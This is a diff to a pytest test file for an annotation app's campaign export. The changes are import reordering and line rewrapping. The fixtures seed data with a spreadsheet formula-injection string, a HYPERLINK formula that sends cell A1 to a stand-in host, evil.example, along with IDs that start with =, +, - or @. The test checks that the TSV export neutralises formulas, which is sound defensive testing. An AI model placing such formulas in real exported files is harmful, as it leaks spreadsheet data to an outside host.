@@ -10,8 +10,8 @@ import io
 import pytest
 
 from annotate import services
-from kinds.registry import KINDS
 from annotate.models import Topic
+from kinds.registry import KINDS
 
 pytestmark = pytest.mark.django_db
 
@@ -21,30 +21,45 @@ ASSESSORS = ["+alice", "@bob"]
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 
 TOPICS = {
-    "pairs": {"query": EVIL, "candidates": [{"id": "=c1", "text": EVIL}, {"id": "+c2", "text": "-2+3"},
-                                            {"id": "@c3", "text": "@SUM(A1:A9)"}]},
+    "pairs": {
+        "query": EVIL,
+        "candidates": [
+            {"id": "=c1", "text": EVIL},
+            {"id": "+c2", "text": "-2+3"},
+            {"id": "@c3", "text": "@SUM(A1:A9)"},
+        ],
+    },
     "ordering": {"items": [{"id": "=a", "text": EVIL}, {"id": "+b", "text": "+b"}, {"id": "-c", "text": "-c"}]},
     "clustering": {
         "documents": [{"id": "=d1"}, {"id": "@d2"}],
-        "sentences": [{"id": "=s1", "document": "=d1", "position": 0, "text": EVIL},
-                      {"id": "+s2", "document": "=d1", "position": 1, "text": "+x"},
-                      {"id": "-s3", "document": "@d2", "position": 0, "text": "-x"},
-                      {"id": "@s4", "document": "@d2", "position": 1, "text": "@x"}],
+        "sentences": [
+            {"id": "=s1", "document": "=d1", "position": 0, "text": EVIL},
+            {"id": "+s2", "document": "=d1", "position": 1, "text": "+x"},
+            {"id": "-s3", "document": "@d2", "position": 0, "text": "-x"},
+            {"id": "@s4", "document": "@d2", "position": 1, "text": "@x"},
+        ],
     },
-    "nuggets": {"target": EVIL, "nuggets": [{"id": "=n1", "text": EVIL, "label": "vital"}, {"id": "+n2", "text": "-n2"}],
-                "responses": [{"id": "=r1", "run": "=runA", "text": EVIL}]},
-    "factoids": {"summaries": [
-        {"id": "=M1", "author": "+ann", "sentences": [{"id": "=m1", "text": EVIL}, {"id": "+m2", "text": "-x"}]},
-        {"id": "@S1", "run": "-sys", "sentences": [{"id": "@x1", "text": "@x"}]},
-    ]},
+    "nuggets": {
+        "target": EVIL,
+        "nuggets": [{"id": "=n1", "text": EVIL, "label": "vital"}, {"id": "+n2", "text": "-n2"}],
+        "responses": [{"id": "=r1", "run": "=runA", "text": EVIL}],
+    },
+    "factoids": {
+        "summaries": [
+            {"id": "=M1", "author": "+ann", "sentences": [{"id": "=m1", "text": EVIL}, {"id": "+m2", "text": "-x"}]},
+            {"id": "@S1", "run": "-sys", "sentences": [{"id": "@x1", "text": "@x"}]},
+        ]
+    },
 }
 PAYLOADS = {
     "pairs": {"matches": {"=c1": True, "+c2": False, "@c3": True}},
     "ordering": {"order": ["+b", "=a", "-c"]},
     "clustering": {"clusters": [["=s1", "-s3"], ["+s2", "@s4"]], "descriptions": [EVIL, "+1"]},
     "nuggets": {"labels": {"=n1": "vital", "+n2": "okay"}},
-    "factoids": {"factoids": [{"id": "=F1", "text": EVIL}, {"id": "+F2", "text": "-F2"}],
-                 "marks": {"=m1": ["=F1"], "+m2": ["+F2"], "@x1": ["=F1"]}},
+    "factoids": {
+        "factoids": [{"id": "=F1", "text": EVIL}, {"id": "+F2", "text": "-F2"}],
+        "marks": {"=m1": ["=F1"], "+m2": ["+F2"], "@x1": ["=F1"]},
+    },
 }
 RUNS = {
     "pairs": [{"name": "=sys1", "data": {"results": {"=t1": [{"id": "=c1", "text": EVIL}]}}}],
@@ -109,9 +124,16 @@ def evil_campaign(people, make_user):
         if runs:
             services.import_runs(campaign=campaign, runs=runs)
         if kind == "factoids":
-            services.save_curation(topic=topic, name="consensus", data=PAYLOADS[kind], version=0, user=people["organiser"])
-            services.save_curation(topic=topic, name="relations", version=0, user=people["organiser"],
-                                   data={"pairs": {"+alice|@bob": [{"first": ["=F1"], "second": ["=F1"]}]}})
+            services.save_curation(
+                topic=topic, name="consensus", data=PAYLOADS[kind], version=0, user=people["organiser"]
+            )
+            services.save_curation(
+                topic=topic,
+                name="relations",
+                version=0,
+                user=people["organiser"],
+                data={"pairs": {"+alice|@bob": [{"first": ["=F1"], "second": ["=F1"]}]}},
+            )
         return campaign
 
     return make
@@ -154,7 +176,9 @@ def is_number(cell: str) -> bool:
 
 def test_the_nuggets_tsv_answer_key_neutralises_formulas(api, people, evil_campaign):
     campaign = evil_campaign("nuggets")
-    response = api(people["admin"]).get(f"/api/campaigns/{campaign.pk}/export/", {"format": "tsv", "truth": "answer-key"})
+    response = api(people["admin"]).get(
+        f"/api/campaigns/{campaign.pk}/export/", {"format": "tsv", "truth": "answer-key"}
+    )
     assert response.status_code == 200
     cells = [cell for line in response.content.decode().splitlines() for cell in line.split("\t")]
     assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not is_number(cell)]
